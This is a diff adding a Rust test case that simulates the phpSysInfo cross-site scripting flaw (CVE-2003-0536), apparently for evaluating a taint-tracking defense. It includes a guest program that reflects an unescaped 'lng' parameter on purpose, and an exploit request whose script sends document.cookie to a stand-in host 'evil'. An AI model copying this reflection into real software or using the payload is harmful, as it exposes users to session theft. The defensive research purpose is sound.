@@ -1,0 +1,151 @@
+//! phpsysinfo cross-site scripting (Table 2, row 6).
+//!
+//! The system-information page accepts a `lng=` (language) parameter and
+//! reflects it into the page chrome when the requested translation is
+//! missing. The app renders several info sections from "system" files, so
+//! the tainted parameter is a small part of a mostly-clean page — H5 must
+//! pinpoint the tainted `<script>` among clean markup.
+
+use shift_core::{Policy, World};
+use shift_ir::{Program, ProgramBuilder, Rhs};
+use shift_isa::{sys, CmpRel};
+
+use crate::{web, Attack};
+
+fn build() -> Program {
+    let mut pb = ProgramBuilder::new();
+    web::add_get_param(&mut pb);
+    let key = pb.global_str("k_lng", "lng=");
+    let cpuinfo = pb.global_str("p_cpu", "proc/cpuinfo");
+    let meminfo = pb.global_str("p_mem", "proc/meminfo");
+    let head = pb.global_str("tpl_head", "<html><body><h1>phpSysInfo</h1>");
+    let warn = pb.global_str("tpl_warn", "<p>unknown language: ");
+    let warn2 = pb.global_str("tpl_warn2", "</p>");
+    let sec = pb.global_str("tpl_sec", "<pre>");
+    let sec2 = pb.global_str("tpl_sec2", "</pre>");
+    let tail = pb.global_str("tpl_tail", "</body></html>");
+    let en = pb.global_str("lng_en", "en");
+
+    pb.func("main", 0, move |f| {
+        let reqslot = f.local(512);
+        let req = f.local_addr(reqslot);
+        let cap = f.iconst(500);
+        let n = f.syscall(sys::NET_READ, &[req, cap]);
+        let end = f.add(req, n);
+        let z = f.iconst(0);
+        f.store1(z, end, 0);
+
+        let lngslot = f.local(256);
+        let lng = f.local_addr(lngslot);
+        let ka = f.global_addr(key);
+        let max = f.iconst(200);
+        let llen = f.call("get_param", &[req, ka, lng, max]);
+
+        let h = f.global_addr(head);
+        let hl = f.call("strlen", &[h]);
+        f.syscall_void(sys::HTML_OUT, &[h, hl]);
+
+        // Unknown language ⇒ reflect it in a warning (the vulnerability).
+        f.if_cmp(CmpRel::Ge, llen, Rhs::Imm(0), |f| {
+            let ena = f.global_addr(en);
+            let same = f.call("strcmp", &[lng, ena]);
+            f.if_cmp(CmpRel::Ne, same, Rhs::Imm(0), |f| {
+                let w = f.global_addr(warn);
+                let wl = f.call("strlen", &[w]);
+                f.syscall_void(sys::HTML_OUT, &[w, wl]);
+                f.syscall_void(sys::HTML_OUT, &[lng, llen]);
+                let w2 = f.global_addr(warn2);
+                let w2l = f.call("strlen", &[w2]);
+                f.syscall_void(sys::HTML_OUT, &[w2, w2l]);
+            });
+        });
+
+        // Render the info sections from the pseudo-proc files.
+        let bufsz = f.iconst(2048);
+        let buf = f.syscall(sys::BRK, &[bufsz]);
+        for src in [cpuinfo, meminfo] {
+            let pa = f.global_addr(src);
+            let zero = f.iconst(0);
+            let fd = f.syscall(sys::FILE_OPEN, &[pa, zero]);
+            f.if_cmp(CmpRel::Ge, fd, Rhs::Imm(0), |f| {
+                let got = f.syscall(sys::FILE_READ, &[fd, buf, bufsz]);
+                f.syscall_void(sys::FILE_CLOSE, &[fd]);
+                let s = f.global_addr(sec);
+                let sl = f.call("strlen", &[s]);
+                f.syscall_void(sys::HTML_OUT, &[s, sl]);
+                f.syscall_void(sys::HTML_OUT, &[buf, got]);
+                let s2 = f.global_addr(sec2);
+                let s2l = f.call("strlen", &[s2]);
+                f.syscall_void(sys::HTML_OUT, &[s2, s2l]);
+            });
+        }
+
+        let t = f.global_addr(tail);
+        let tl = f.call("strlen", &[t]);
+        f.syscall_void(sys::HTML_OUT, &[t, tl]);
+        let ok = f.iconst(7);
+        f.ret(Some(ok));
+    });
+
+    pb.build().expect("phpsysinfo guest is well-formed")
+}
+
+fn worlds_base() -> World {
+    World::new()
+        .file("proc/cpuinfo", b"model: sim64 itanium-like\ncores: 2\n".to_vec())
+        .file("proc/meminfo", b"total: 4096 MB\nfree: 1024 MB\n".to_vec())
+}
+
+fn benign() -> World {
+    worlds_base().net(b"GET /sysinfo?lng=de HTTP/1.0".to_vec())
+}
+
+fn exploit() -> World {
+    // NB: no spaces in the payload (the query parser stops at one), and
+    // longer than 8 bytes — see `word_level_short_payload_false_negative`
+    // in the crate tests for why that matters at word granularity.
+    worlds_base()
+        .net(b"GET /sysinfo?lng=<script>new_Image().src='//evil/'+document.cookie</script> HTTP/1.0".to_vec())
+}
+
+/// Table-2 row.
+pub fn attack() -> Attack {
+    Attack {
+        cve: "CVE-2003-0536",
+        program: "phpSysInfo (2.3)",
+        language: "PHP",
+        attack_type: "Cross Site Scripting",
+        policies: "H5 + Low level policies",
+        expected: Policy::H5,
+        build,
+        benign,
+        exploit,
+        succeeded: |report| {
+            report.runtime.html_output.windows(7).any(|w| w.eq_ignore_ascii_case(b"<script"))
+        },
+        word_smears: false,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use shift_core::{Mode, Shift};
+
+    #[test]
+    fn renders_sections_and_reflects_unknown_language() {
+        let report = Shift::new(Mode::Uninstrumented).run(&build(), benign()).unwrap();
+        let html = String::from_utf8_lossy(&report.runtime.html_output).into_owned();
+        assert!(html.contains("unknown language: de"), "{html}");
+        assert!(html.contains("model: sim64"));
+        assert!(html.contains("total: 4096 MB"));
+    }
+
+    #[test]
+    fn known_language_is_not_reflected() {
+        let world = worlds_base().net(b"GET /sysinfo?lng=en HTTP/1.0".to_vec());
+        let report = Shift::new(Mode::Uninstrumented).run(&build(), world).unwrap();
+        let html = String::from_utf8_lossy(&report.runtime.html_output).into_owned();
+        assert!(!html.contains("unknown language"));
+    }
+}
